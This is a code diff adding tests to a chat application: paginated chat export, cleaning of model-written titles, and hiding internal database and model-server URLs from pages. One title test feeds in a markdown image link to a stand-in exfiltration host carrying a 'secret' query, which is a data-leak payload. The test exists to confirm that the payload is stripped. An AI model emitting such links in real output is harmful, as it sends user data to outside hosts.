@@ -220,3 +220,39 @@ def test_imported_messages_are_left_out_of_usage_figures(sessions) -> None:
     # Only Alice's real turn counts; Mallory's imported million tokens do not.
     assert (totals.user_messages, totals.active_users) == (1, 1)
     assert totals.completion_tokens < 1_000_000
+
+
+def test_export_all_comes_in_bounded_parts_that_together_hold_every_chat(sessions) -> None:
+    history = HistoryService(sessions=sessions)
+    ids = {str(history.import_json(ALICE, json.dumps(export_document(None)).encode())) for _ in range(5)}
+    parts = [list(history.export_all_jsonl(ALICE, part=part, chats_per_part=2)) for part in range(3)]
+    assert [len(part) for part in parts] == [2, 2, 1]
+    exported = {json.loads(line)["session"]["id"] for part in parts for line in part}
+    assert exported == ids and history.count_exportable(ALICE) == 5
+
+
+# -- 4 (titles) and 9 (what pages show) ---------------------------------------------------------------
+
+
+def test_model_written_titles_keep_no_image_or_link_syntax() -> None:
+    from services.turns import clean_model_title
+
+    title = clean_model_title(
+        "Title: ![chart](https://exfil.example.net/?q=secret) **Trip** [plan](https://x)"
+    )
+    assert "![" not in title and "](" not in title and "http" not in title
+    assert title == "chart Trip plan"
+
+
+def test_pages_name_no_database_host_and_no_model_server_url() -> None:
+    from persistence.database import resolve_database_target
+    from services.model_clients.openai_compatible import OpenAICompatibleClient, Timeouts
+
+    settings = Settings(_env_file=None, database_url="postgresql://app:pw@db.internal.example:5432/chat")
+    assert "db.internal" not in resolve_database_target(settings).description
+    client = OpenAICompatibleClient(
+        base_url="http://user:secret@llm.internal:11434/v1",
+        api_key=None,
+        timeouts=Timeouts(connect=1, first_token=1, total=1),
+    )
+    assert "llm.internal" not in client.label and "secret" not in client.label
